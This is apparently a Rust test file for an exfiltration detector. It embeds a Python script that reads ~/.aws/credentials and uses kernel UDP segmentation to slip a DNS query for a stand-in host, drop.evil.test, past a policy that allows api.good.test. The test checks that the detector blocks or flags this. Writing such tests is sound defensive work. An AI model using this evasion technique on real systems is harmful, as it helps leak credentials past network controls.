//! Questions in unusual packets: a holder's question for a name that may not have the key does not get out in the shade of one that
//! may.

use detector::engine::Verdict;
use detector_tests::{
    name_server::{NameServer, Zone},
    namespace::{OTHER_V4, SINK_V4, SINK_V6},
    resolver::Resolver,
    scene::Scene,
    spent::{leaks, learned, policy},
    watched::Watched,
};
use std::net::IpAddr;

type Result = anyhow::Result<()>;

const GOOD: &str = "api.good.test";
const EVIL: &str = "drop.evil.test";

/// `ask.py SERVER FIRST SECOND FILE`: reads the file, and asks.
const ASK: &str = r#"
import socket, struct, sys
def question(name):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0\0\1\0\1"
server, first, second, file = sys.argv[1:5]
open(file).read()
out = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM)
out.settimeout(2)
"#;

/// The kernel cuts what is sent at once into datagrams of 64 bytes (UDP_SEGMENT), behind all hooks.
const CUT: &str = r#"
out.setsockopt(socket.IPPROTO_UDP, 103, 64)
out.connect((server, 53))
out.send(question(first).ljust(64, b"\0") + question(second))
out.recv(512)
"#;

struct Asked {
    server: NameServer,
    run: Watched,
}

/// Asks so, as one who holds the key or not.
fn ask(how: &str, server: IpAddr, mode: &'static str, holds: bool) -> anyhow::Result<Asked> {
    let scene = Scene::new()?;
    let zone = Zone::new().a(GOOD, [SINK_V4]).a(EVIL, [OTHER_V4]);
    let names = NameServer::start(&scene.network.sink, zone)?;
    let file = if holds { "~/.aws/credentials" } else { "/dev/null" };
    let script = format!(
        "cat > \"$TMPDIR/ask.py\" <<'END'\n{ASK}{how}END\npython3 \"$TMPDIR/ask.py\" {server} {GOOD} {EVIL} {file} || true\n"
    );
    let job = scene.job(["bash", "-c", &script]).policy(policy(&[(GOOD, "aws")])).mode(mode);
    let run = Watched::run(&scene, &job.resolver(Resolver::new([server])))?;
    Ok(Asked { server: names, run })
}

/// Nothing gets out of a holder; in audit it does, and is found. Who holds nothing asks as he likes.
fn is_judged(how: &str, server: IpAddr, name: &str) -> Result {
    for (mode, holds) in [("enforce", true), ("audit", true), ("enforce", false)] {
        let Asked { server, run } = ask(how, server, mode, holds)?;
        let (refused, said) = (mode == "enforce" && holds, String::from_utf8_lossy(&run.outcome.stderr));
        assert_eq!(server.asked(name) == 0, refused, "{mode}, {holds}: {said}");
        assert_eq!(leaks(&run).is_empty(), !holds, "{mode}: {:#?}", run.conclusion.findings);
        assert_eq!(run.conclusion.verdict == Verdict::Fail, holds, "{mode}: {said}");
        assert!(learned(&run).is_empty(), "{:?}", learned(&run));
    }
    Ok(())
}

#[test]
fn questions_that_the_kernel_cuts() -> Result {
    is_judged(CUT, SINK_V4, EVIL)?;
    is_judged(CUT, SINK_V6, EVIL)
}
